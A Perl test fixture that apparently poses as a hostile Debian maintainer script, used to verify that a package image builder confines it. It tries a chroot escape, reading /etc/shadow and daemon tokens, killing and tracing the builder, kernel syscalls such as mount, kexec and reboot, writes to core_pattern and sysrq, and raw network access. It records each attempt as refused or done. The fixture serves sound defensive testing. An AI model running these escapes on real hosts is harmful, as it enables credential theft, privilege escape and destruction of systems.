#!/usr/bin/perl
# A maintainer script that tries to get at the host that builds an image of its package.
#
# Of Perl, which every Debian has from its first package on.  The words in capitals are put in by
# the test.  Each try returns what it got at, or dies with what refused it.
use strict;
use warnings;
use Errno;
use Fcntl;
use POSIX ();
use Socket;

my ($TOKEN, $DATABASE, $STATE, $MARKER) = ('@TOKEN@', '@DATABASE@', '@STATE@', '@MARKER@');
my ($PID, $PORT, $ABSTRACT, $BACKGROUND) = ('@PID@', '@PORT@', '@ABSTRACT@', '@BACKGROUND@');
my $TOOLS;
my $REPORT = '/var/lib/forkd-hostile';

my %CALL = (
    ptrace => 101, mount => 165, umount2 => 166, swapon => 167, reboot => 169, sethostname => 170,
    iopl => 172, init_module => 175, settimeofday => 164, pivot_root => 155, mknod => 133,
    unshare => 272, setns => 308, bpf => 321, perf_event_open => 298, userfaultfd => 323,
    io_uring_setup => 425, add_key => 248, kexec_load => 246, open_by_handle_at => 304,
    process_vm_readv => 310, capset => 126, acct => 163, syslog => 103, open_tree => 428,
    fsopen => 430, quotactl => 179, pidfd_open => 434, clock_settime => 227, setpriority => 141,
);

sub call {
    my ($name, @rest) = @_;
    my $got = syscall($CALL{$name}, @rest);
    die "$!\n" if $got < 0;
    return "$name gave $got";
}
sub get {
    open(my $file, '<', $_[0]) or die "$!\n";
    sysread($file, my $data, 16) // die "$!\n";
    return "read $_[0]";
}
sub put {
    sysopen(my $file, $_[0], O_WRONLY | ($_[1] // 0)) or die "$!\n";
    syswrite($file, $_[2] // "1") // die "$!\n";
    return "wrote $_[0]";
}
sub list {
    opendir(my $folder, $_[0]) or die "$!\n";
    my $but = $_[1] // '';
    my @found = grep { !/^\.\.?$/ && $_ ne $but } readdir($folder);
    die "it is empty\n" unless @found;
    return "listed $_[0]: @found";
}
sub connecting {
    my ($family, $kind, $address) = @_;
    socket(my $socket, $family, $kind, 0) or die "$!\n";
    connect($socket, $address) or die "$!\n";
    defined send($socket, "x", 0) or die "$!\n";
    return "reached it";
}

my @tries = (
    files => 'read the daemon\'s token' => sub { get($TOKEN) },
    files => 'read the daemon\'s database' => sub { get($DATABASE) },
    files => 'list the state folder' => sub { list($STATE) },
    files => 'read /etc/shadow of the host' => sub { get('/etc/shadow') },
    files => 'list /root' => sub { list('/root', '@SHOWN@') },
    files => 'list /home' => sub { list('/home') },
    files => 'list /run' => sub { list('/run') },
    files => 'write to /etc of the host' => sub { put('/etc/forkd-hostile', O_CREAT) },
    files => 'write to /usr of the host' => sub { put('/usr/forkd-hostile', O_CREAT) },
    files => 'replace a program of the host' => sub { put('/usr/bin/true') },
    files => 'find what is in /tmp of the host' => sub { get($MARKER) },
    files => 'change what stands before the tools of the build' =>
        sub { put("$TOOLS/apt-get") },
    files => 'make a device of the host\'s disk' =>
        sub { call('mknod', my $name = '/var/tmp/disk', 060600, 254 << 8) },
    files => 'open /dev/mem' => sub { get('/dev/mem') },
    files => 'open a file by its handle' => sub { call('open_by_handle_at', -100, my $h = pack('IiQ', 8, 1, 2), 0) },
    files => 'reach the host by /proc/1/root' => sub { list('/proc/1/root/') },
    processes => 'see the daemon' => sub { list("/proc/$PID") },
    processes => 'end the daemon' => sub { kill('KILL', $PID) or die "$!\n"; 'killed it' },
    processes => 'end the builder' =>
        sub { kill('KILL', 1) or die "$!\n"; sleep 1; die "it goes on\n" },
    processes => 'trace the builder' => sub { call('ptrace', 16, 1, 0, 0) },
    processes => 'read the memory of the builder' => sub { get('/proc/1/mem') },
    processes => 'read the environment of the builder' => sub { get('/proc/1/environ') },
    processes => 'open what the builder has open' => sub {
        opendir(my $folder, '/proc/1/fd') or die "$!\n";
        my $refused = "there is none\n";
        for my $each (grep { /\d/ } readdir($folder)) {
            return "opened $each" if sysopen(my $file, "/proc/1/fd/$each", O_RDONLY | O_NONBLOCK);
            $refused = "$!\n";
        }
        die $refused;
    },
    processes => 'enter the network of the builder' => sub {
        sysopen(my $ns, '/proc/1/ns/net', O_RDONLY) or die "$!\n";
        call('setns', fileno($ns), 0);
    },
    processes => 'read memory across processes' => sub {
        call('process_vm_readv', 1, my $a = pack('QQ', 0, 0), 1, my $b = pack('QQ', 0, 0), 1, 0);
    },
    processes => 'raise its own priority' => sub { call('setpriority', 0, 0, -20) },
    rights => 'be root of the host' => sub {
        open(my $map, '<', '/proc/self/uid_map') or die "$!\n";
        my (undef, $first) = split ' ', scalar <$map>;
        die "root here is user $first there\n" if $first > 0;
        return 'it is';
    },
    rights => 'regain capabilities' => sub {
        call('capset', my $head = pack('Ii', 0x20080522, 0), my $data = pack('I6', (~0) x 6));
    },
    rights => 'make a user namespace' => sub { call('unshare', 0x10000000) },
    rights => 'make a mount namespace' => sub { call('unshare', 0x00020000) },
    rights => 'make a network namespace' => sub { call('unshare', 0x40000000) },
    rights => 'allow user namespaces again' => sub { put('/proc/sys/user/max_user_namespaces', 0, '9') },
    kernel => 'mount' => sub { call('mount', my $s = 'x', my $t = '/mnt', my $k = 'tmpfs', 0, 0) },
    kernel => 'mount the host\'s disk' => sub { call('mount', my $s = '/dev/vda', my $t = '/mnt', my $k = 'ext4', 0, 0) },
    kernel => 'make /usr of the host writable' => sub { call('mount', my $s = 'x', my $t = '/usr', my $k = 'x', 32 | 4096, 0) },
    kernel => 'unmount /usr of the host' => sub { call('umount2', my $t = '/usr', 2) },
    kernel => 'pivot_root' => sub { call('pivot_root', my $a = '.', my $b = '.') },
    kernel => 'open a file system' => sub { call('fsopen', my $k = 'tmpfs', 0) },
    kernel => 'clone a mount' => sub { call('open_tree', -100, my $p = '/usr', 1) },
    kernel => 'load a module' => sub { call('init_module', my $m = 'x', 1, my $o = '') },
    kernel => 'start another kernel' => sub { call('kexec_load', 0, 0, 0, 0) },
    kernel => 'restart the host' => sub { call('reboot', 0xfee1dead, 672274793, 0x89abcdef, 0) },
    kernel => 'change the clock' => sub { call('clock_settime', 0, my $t = pack('QQ', 1, 0)) },
    kernel => 'set the time of day' => sub { call('settimeofday', my $t = pack('QQ', 1, 0), 0) },
    kernel => 'change the host\'s name' => sub { call('sethostname', my $n = 'hostile', 7) },
    kernel => 'read the kernel\'s log' => sub { call('syslog', 3, my $b = ' ' x 64, 64) },
    kernel => 'use the processor\'s ports' => sub { call('iopl', 3) },
    kernel => 'swap' => sub { call('swapon', my $p = '/var/tmp/swap', 0) },
    kernel => 'account for processes' => sub { call('acct', 0) },
    kernel => 'set quotas' => sub { call('quotactl', 0, 0, 0, 0) },
    kernel => 'load a program into the kernel' => sub { call('bpf', 0, my $a = "\0" x 128, 128) },
    kernel => 'watch the processor' => sub { call('perf_event_open', my $a = pack('II', 1, 112) . "\0" x 104, 0, -1, -1, 0) },
    kernel => 'handle faults of the kernel' => sub { call('userfaultfd', 0) },
    kernel => 'make a ring of calls' => sub { call('io_uring_setup', 1, my $p = "\0" x 120) },
    kernel => 'add a key' => sub { call('add_key', my $t = 'user', my $d = 'x', my $p = 'x', 1, -3) },
    kernel => 'change a setting of the kernel' => sub { put('/proc/sys/kernel/core_pattern', 0, '|/x') },
    kernel => 'trigger the kernel' => sub { put('/proc/sysrq-trigger', 0, 'h') },
    network => 'reach the daemon on loopback' =>
        sub { connecting(AF_INET, SOCK_STREAM, pack_sockaddr_in($PORT, INADDR_LOOPBACK)) },
    network => 'reach a daemon by its abstract name' =>
        sub { connecting(AF_UNIX, SOCK_STREAM, pack_sockaddr_un("\0$ABSTRACT")) },
    network => 'reach IPv4 by UDP' =>
        sub { connecting(AF_INET, SOCK_DGRAM, pack_sockaddr_in(53, inet_aton('192.0.2.1'))) },
    network => 'reach IPv4 by TCP' =>
        sub { connecting(AF_INET, SOCK_STREAM, pack_sockaddr_in(80, inet_aton('192.0.2.1'))) },
    network => 'reach IPv6 by UDP' =>
        sub { connecting(AF_INET6, SOCK_DGRAM, pack_sockaddr_in6(53, Socket::inet_pton(AF_INET6, '2001:db8::1'))) },
    network => 'send raw packets' => sub { socket(my $s, AF_INET, SOCK_RAW, 1) or die "$!\n"; 'opened' },
    network => 'listen to a network' => sub { socket(my $s, 17, SOCK_RAW, 0) or die "$!\n"; 'opened' },
    network => 'bring a link up' => sub {
        socket(my $s, AF_INET, SOCK_DGRAM, 0) or die "$!\n";
        ioctl($s, 0x8914, my $request = pack('a16s', 'lo', 1) . "\0" x 22) or die "$!\n";
        'brought it up';
    },
);

open(my $report, '>', $REPORT) or die "$REPORT: $!";

# The host, as far as there is one here, is outside of the root file system.
mkdir '/var/tmp/escape';
opendir(my $inside, '/') or die;
chroot('/var/tmp/escape') or die "chroot: $!";
chdir('..') for 1 .. 64;
chroot('.') or die "chroot: $!";
rmdir '/var/tmp/escape';
($TOOLS) = glob '@CACHE@/images/.partial-*/scratch/tools';
$TOOLS //= '/nowhere';
print $report "escaped\t", (-e $TOOLS ? 'yes' : 'no'), "\n";

while (my ($group, $name, $try) = splice(@tries, 0, 3)) {
    my $got = eval { $try->() };
    my $refused = $@;
    chomp $refused;
    print $report join("\t", $group, $name, defined $got ? ('done', $got) : ('refused', $refused)), "\n";
}
close $report or die;

# Somebody who stays.
unless (fork) {
    POSIX::setsid();
    open(STDIN, '<', '/dev/null'); open(STDOUT, '>', '/dev/null'); open(STDERR, '>', '/dev/null');
    $0 = $BACKGROUND;
    sleep 3600;
    exit 0;
}
exit 0;
